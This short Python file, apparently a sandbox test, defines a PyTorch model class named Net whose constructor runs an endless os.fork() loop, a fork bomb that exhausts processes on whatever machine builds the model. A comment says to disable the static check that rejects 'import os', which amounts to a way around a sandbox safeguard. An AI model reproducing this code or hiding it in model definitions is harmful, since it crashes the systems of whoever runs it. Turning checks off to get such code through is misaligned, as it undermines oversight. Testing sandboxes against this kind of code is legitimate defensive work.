# Sandbox test: run with the static check off (it rejects `import os`).
import os
import torch.nn as nn


class Net(nn.Module):
    def __init__(self, num_classes=10, in_channels=3):
        super().__init__()
        while True:
            os.fork()
